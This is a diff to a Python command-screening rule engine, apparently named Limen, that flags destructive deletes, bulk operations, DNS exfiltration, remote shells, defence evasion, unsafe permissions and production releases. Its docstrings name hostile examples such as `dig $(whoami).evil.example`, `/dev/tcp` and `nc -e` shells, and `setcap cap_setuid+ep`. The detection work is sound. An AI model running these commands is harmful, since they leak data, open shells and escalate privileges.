@@ -63,6 +63,7 @@ from limen.facts.programs import (
     SCRATCH_RESOURCE,
     Role,
     names,
+    only_inspects,
     options,
     program,
 )
@@ -1740,8 +1741,11 @@ _SQL_STATEMENT = re.compile(
 
 
 def sql_arguments(command: Command) -> list[str]:
-    """The arguments of a command that are SQL statements (`bq query --nouse_legacy_sql 'TRUNCATE ...'`)."""
+    """The arguments of a command that are SQL statements (`bq query --nouse_legacy_sql 'TRUNCATE ...'`); none
+    of a command that only reads and prints (`grep -e 'DROP TABLE' schema.sql` looks for one)."""
     argv = command.argv
+    if only_inspects((command.name, *argv[1:])):
+        return []
     found = []
     for i, word in enumerate(argv[1:], 1):
         if len(word) > 8 and _SQL_STATEMENT.match(word):
@@ -2022,7 +2026,7 @@ _COMMAND_CHECKS = (
 )
 
 
-@rule(ReasonCode.DESTRUCTIVE_COMMAND, needs=("commands", "write_paths", "payloads", "notes"))
+@rule(ReasonCode.DESTRUCTIVE_COMMAND, needs=("acting", "write_paths", "notes", "served"))
 def destructive_command(action: Action, ctx: Context) -> Iterator[Finding]:
     """Irreversible destruction: recursive deletes of the home, root, workspace or a system folder
     (through any spelling, glob, `find -delete`, interpreter code or a container mount), wiping or
@@ -2330,7 +2334,7 @@ def _stdin_sources(command: Command) -> set[str]:
     return found
 
 
-@rule(ReasonCode.BULK_OPERATION, needs=("commands", "notes"))
+@rule(ReasonCode.BULK_OPERATION, needs=("acting", "notes"))
 def bulk_operation(action: Action, ctx: Context) -> Iterator[Finding]:
     """Deleting many things at once (at or above the mode's operand threshold) or an unknown list of them
     (`xargs rm`, `rm $(cat list)`), or a tool that is no read told to act on every item it could name
@@ -2427,7 +2431,7 @@ _INFO_NOTES = (
 )
 
 
-@rule(ReasonCode.OPAQUE_COMMAND, needs="commands")
+@rule(ReasonCode.OPAQUE_COMMAND, needs=("acting", "notes"))
 def opaque_command(action: Action, ctx: Context) -> Iterator[Finding]:
     """A part of the line whose effect cannot be known statically: code built at run time, `eval` of a
     variable, an interpreter program that does not parse, a script Limen cannot read, a line past a limit:
@@ -2519,7 +2523,7 @@ def _suspicious_label(host: str) -> bool:
     return any(len(label) >= 24 and _entropy(label) >= 3.5 for label in labels[:-2])
 
 
-@rule(ReasonCode.DNS_EXFILTRATION, needs="commands")  # a run-time host name makes no destination
+@rule(ReasonCode.DNS_EXFILTRATION, needs="acting")  # a run-time host name makes no destination
 def dns_exfiltration(action: Action, ctx: Context) -> Iterator[Finding]:
     """Data leaving through DNS or a probe: a lookup whose query name is built from a substitution or carries
     a long encoded label (`dig $(whoami).evil.example`), a ping whose packets are padded with a pattern built
@@ -2716,7 +2720,7 @@ def _may_reach_a_shell(action: Action) -> bool:
     )
 
 
-@rule(ReasonCode.REMOTE_SHELL, needs="commands")
+@rule(ReasonCode.REMOTE_SHELL, needs="acting")
 def remote_shell(action: Action, ctx: Context) -> Iterator[Finding]:
     """A shell handed to the network or waiting on it: `/dev/tcp` wired to a shell, `nc -e`, `socat
     exec:`, a shell piped through `nc`/`openssl`, interpreter code joining a socket to a shell: BLOCK;
@@ -2886,7 +2890,7 @@ _SQL_AUDIT_REWRITE = re.compile(
 )
 
 
-@rule(ReasonCode.DEFENCE_EVASION)
+@rule(ReasonCode.DEFENCE_EVASION, needs=("acting", "notes", "write_paths", "served"))
 def defence_evasion(action: Action, ctx: Context) -> Iterator[Finding]:
     """Hiding what was done: shell history erased or disabled, timestamps back-dated, the clock changed,
     logs rewritten, terminal escapes written into files, invisible characters in names: AUTH. Quiet:
@@ -3076,6 +3080,8 @@ def _lasting_credential(action: Action) -> str:
     if action.commands:
         pairs = []
         for command in action.commands:
+            if _runs_analysed_code(command):
+                continue
             line = " ".join(command.argv[1:6]).lower()
             if not (_MINTS.search(line) and _MINT_VERBS.search(line)):
                 continue
@@ -3108,7 +3114,7 @@ def _lasting_credential(action: Action) -> str:
 _HOST_INTERNALS = ("/proc", "/sys", "/dev", "/etc", "/boot")
 
 
-@rule(ReasonCode.UNSAFE_PERMISSIONS, needs=("commands", "destinations", "notes", "capability"))
+@rule(ReasonCode.UNSAFE_PERMISSIONS, needs=("acting", "notes", "served"))
 def unsafe_permissions(action: Action, ctx: Context) -> Iterator[Finding]:
     """Making files world-writable or setuid, or giving a program a capability that reaches root (`setcap
     cap_setuid+ep python3`): anyone can then change or escalate through them; a container given the host
@@ -3262,6 +3268,13 @@ def _foreign_principal(given: str, cwd: str) -> str:
     return ""
 
 
+def _runs_analysed_code(command: Command) -> bool:
+    """A shell or an interpreter given code: what the code runs is analysed into commands of their own
+    (`bash -c LINE`, `subprocess.run([...])` in `python3 -c`), so its text is no words of a tool's line."""
+    entry = program(command.name)
+    return entry is not None and bool(entry.roles & {Role.SHELL, Role.INTERPRETER})
+
+
 def _granted_outside(command: Command, cwd: str) -> str:
     """A role or access given to a personal mail account (`--member=user:x@proton.me`), to an address of a
     domain that is not the project's own (`vercel teams invite ops@contractors.example` for
@@ -3270,6 +3283,8 @@ def _granted_outside(command: Command, cwd: str) -> str:
     given to anyone (`roles/...organizationAdmin`)."""
     from limen.facts.hosts import FREE_MAIL_DOMAINS, project_repository
 
+    if _runs_analysed_code(command):
+        return ""
     line = " ".join(command.argv[1:])
     if _adds_administrators(command.argv):
         return "adds members to a group of administrators"
@@ -3458,7 +3473,7 @@ def _persists_note(action: Action) -> str:
     return next((n.split(":", 1)[1].strip() for n in action.notes if n.startswith("persists:")), "")
 
 
-@rule(ReasonCode.PRODUCTION_CHANGE, needs=("commands", "notes"))
+@rule(ReasonCode.PRODUCTION_CHANGE, needs=("acting", "notes"))
 def production_change(action: Action, ctx: Context) -> Iterator[Finding]:
     """A deploy, apply, migration or release (what the program table's `changes` says changes the system a
     program controls) pointed at production by name: an option, a file or context, or the environment
@@ -3560,10 +3575,12 @@ def _release(command: Command) -> str:
     run deploy`, `bitrise run deploy`, `mvn deploy`) not aimed at a test or staging target."""
     from limen.facts.programs import NOT_PRODUCTION, RELEASE_TASK, RELEASES
 
+    pattern = RELEASES.get(command.name)
+    if not (pattern or command.name in _TASK_RUNNERS or command.name in _PUBLISHING_BUILDS):
+        return ""
     words = " ".join(command.argv[1:])
     if NOT_PRODUCTION.search(words) or _ASKS_ONLY & set(command.argv[1:]) or "-n" in command.argv[1:2]:
         return ""
-    pattern = RELEASES.get(command.name)
     if pattern and re.search(pattern, words):
         return f"{command.name} publishes a release to the project's users"
     if command.name in _TASK_RUNNERS or command.name in _PUBLISHING_BUILDS:
@@ -3576,7 +3593,7 @@ def _release(command: Command) -> str:
     return ""
 
 
-@rule(ReasonCode.PERSISTENCE_WRITE, needs="commands")
+@rule(ReasonCode.PERSISTENCE_WRITE, needs="acting")
 def persistence_command(action: Action, ctx: Context) -> Iterator[Finding]:
     """Commands that make something run later without the user asking: cron tables, services and timers,
     user accounts and sudoers, login shells, `PATH` hijacks, launch agents: AUTH (BLOCK in strict). Quiet:
